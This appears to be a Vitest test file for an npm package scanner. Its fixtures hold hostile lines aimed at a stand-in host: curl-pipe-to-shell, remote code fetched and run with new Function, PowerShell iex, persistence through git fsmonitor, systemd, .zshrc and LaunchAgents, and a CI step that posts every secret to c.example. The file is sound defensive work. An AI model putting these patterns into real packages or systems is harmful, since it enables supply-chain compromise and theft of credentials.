import { describe, expect, it } from 'vitest';
import { analyzePackage } from '../../src/analyze/index.js';
import { ownRules, packageOf } from './in-memory.js';

const PIPED = 'curl -fsSL https://c.example/x | sh';
const FETCHED =
  "require('https').get('https://c.example/x', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => new Function('require', b)(require)); });";
const ruleOf = (files: Record<string, string>, manifest: Record<string, unknown>): string[] =>
  analyzePackage(packageOf(files, manifest), ownRules()).findings.map(({ rule }) => rule);
const ofScript = (code: string, more: Record<string, unknown> = {}, files: Record<string, string> = {}): string[] =>
  ruleOf({ 's.js': code, ...files }, { scripts: { install: 'node s.js' }, ...more });

describe('code that a child gets on its standard input', () => {
  const cp = "const cp = require('child_process');";
  it.each([
    [
      'in pieces',
      `${cp} const p = cp.spawn('bash', ['-s']); p.stdin.write('u=https://c.example/x\\n'); p.stdin.end('curl "$u" | sh');`,
    ],
    ['as an option', `${cp} cp.spawnSync(process.execPath, ['-'], { input: ${JSON.stringify(FETCHED)} });`],
    ['without arguments', `${cp} cp.spawn(process.execPath, []).stdin.end(${JSON.stringify(FETCHED)});`],
    [
      'of a stream',
      `${cp} require('stream').Readable.from([${JSON.stringify(FETCHED)}]).pipe(cp.spawn('node').stdin);`,
    ],
    ['of a file', `${cp} require('fs').createReadStream(__dirname + '/d.txt').pipe(cp.spawn('node', ['-']).stdin);`],
    [
      'in PowerShell',
      `${cp} cp.spawn('powershell', ['-Command', '-']).stdin.end('iex (iwr https://c.example/x).Content');`,
    ],
  ])('%s', (_name, code) => {
    expect(ofScript(code, {}, { 'd.txt': FETCHED })).toContain('remote-code-eval');
  });

  it.each([
    ["import subprocess\nsubprocess.run(['sh'], input=b'", "')"],
    ["import subprocess\np = subprocess.Popen(['sh', '-s'], stdin=-1)\np.communicate(b\"\"\"", '""")'],
    ["import subprocess\nsteps = '", "'\nsubprocess.run(['bash'], input=steps.encode())"],
  ])('from Python: %s…', (before, after) => {
    expect(ruleOf({ 's.py': `${before}${PIPED}${after}\n` }, { scripts: { install: 'python3 s.py' } })).toContain(
      'remote-code-eval',
    );
  });

  it('is data where the child has a script', () => {
    const code = `${cp} cp.spawn('node', ['own.js']).stdin.end(${JSON.stringify(FETCHED)});`;
    expect(ofScript(code, {}, { 'own.js': 'process.stdin.resume()' })).not.toContain('remote-code-eval');
  });
});

describe('what npm hands on of package.json', () => {
  it.each([
    "for (const k in process.env) if (k.startsWith('npm_package_config_r')) require('child_process').execSync(process.env[k]);",
    "const e = { ...process.env }; require('child_process').execSync(e.npm_package_config_run);",
    "Object.entries(process.env).filter(([k]) => /^npm_package_config_/.test(k)).forEach(([, v]) => require('child_process').execSync(v));",
  ])('%s', (code) => {
    expect(ofScript(code, { config: { run: PIPED } })).toContain('remote-code-eval');
    expect(ofScript(code, { config: { run: 'echo done' } })).not.toContain('remote-code-eval');
  });

  it('what one command downloads, the next one starts', () => {
    const code =
      "const { execSync } = require('child_process'); execSync('curl -o /tmp/a1 https://c.example/x'); execSync('sh /tmp/a1');";
    expect(ofScript(code)).toContain('remote-code-eval');
    expect(ofScript(code.replace('sh /tmp/a1', 'wc /tmp/a1'))).not.toContain('remote-code-eval');
  });
});

describe('what is written for others to start', () => {
  const write = (path: string, text: string): string =>
    `require('fs').writeFileSync(require('os').homedir() + '/${path}', ${text});`;
  const script = write('.local/share/a/run.sh', JSON.stringify(`#!/bin/sh\n${PIPED}\n`));
  const place = "require('os').homedir() + '/.local/share/a/run.sh'";
  const ofCommand = (code: string): string[] => ruleOf({ 'c.js': `#!/usr/bin/env node\n${code}` }, { bin: 'c.js' });

  it.each([
    [
      'a setting of git',
      `require('child_process').execFileSync('git', ['config', '--global', 'core.fsmonitor', ${place}]);`,
    ],
    ['a unit', write('.config/systemd/user/a.service', `'[Service]\\nExecStart=' + ${place} + '\\n'`)],
    ['a start-up file', write('.zshrc', `'[ -x ' + ${place} + ' ] && ' + ${place} + ' &\\n'`)],
    [
      'an agent',
      write(
        'Library/LaunchAgents/a.plist',
        `'<key>ProgramArguments</key><array><string>sh</string><string>' + ${place} + '</string></array>'`,
      ),
    ],
  ])('%s that names a script', (_name, code) => {
    expect(ofCommand(script + code)).toContain('fixed-host-code');
    expect(ofCommand(code)).not.toContain('fixed-host-code');
  });

  it.each([
    `require('child_process').execSync('git config --global alias.up "!${PIPED}"');`,
    write('.gitconfig', JSON.stringify(`[credential]\n\thelper = "!${PIPED}"\n`)),
  ])('a command of git: %s', (code) => {
    expect(ofCommand(code)).toContain('fixed-host-code');
  });

  it('a promise around a child is followed for every command', () => {
    const code = `const cp = require('child_process'); const run = (...args) => new Promise((done) => cp.execFile('sh', args, done)); (async () => { for (const c of [${'"true",'.repeat(12)} ${JSON.stringify(PIPED)}]) await run('-c', c); })();`;
    expect(ofCommand(code)).toContain('remote-code-eval');
  });
});

describe('CI files that code writes', () => {
  const job = (run: string): string =>
    `const yaml = (v, p = '') => Array.isArray(v) ? v.map((x) => p + '- ' + yaml(x, p + '  ').trimStart()).join('\\n') : typeof v === 'object' ? Object.entries(v).map(([k, x]) => typeof x === 'object' ? p + k + ':\\n' + yaml(x, p + '  ') : p + k + ': ' + x).join('\\n') : p + v;
     require('fs').writeFileSync(process.argv[2] + '/.github/workflows/ci.yml', yaml({ on: 'push', jobs: { t: { steps: [{ run: ${JSON.stringify(run)} }] } } }));`;
  const of = (run: string): string[] => ruleOf({ 'c.js': job(run) }, { name: 'create-larch', bin: 'c.js' });

  it.each([
    PIPED,
    'bash <(curl -s https://c.example/x)',
    'curl -fsSLo setup.sh https://c.example/x && sh setup.sh',
    'iwr https://c.example/x -UseBasicParsing | iex',
  ])('%s', (run) => {
    expect(of(run)).toContain('planted-download-workflow');
  });

  it('all secrets that are sent away', () => {
    expect(of(`curl -d "\${{ toJSON(secrets) }}" https://c.example`)).toContain('planted-secret-workflow');
  });

  it.each([
    'curl -fsSL https://deno.land/install.sh | sh',
    'curl https://get.larch.example/i.sh | sh',
    'curl -fsS https://c.example/health',
  ])('not %s', (run) => {
    expect(of(run)).not.toContain('planted-download-workflow');
  });
});
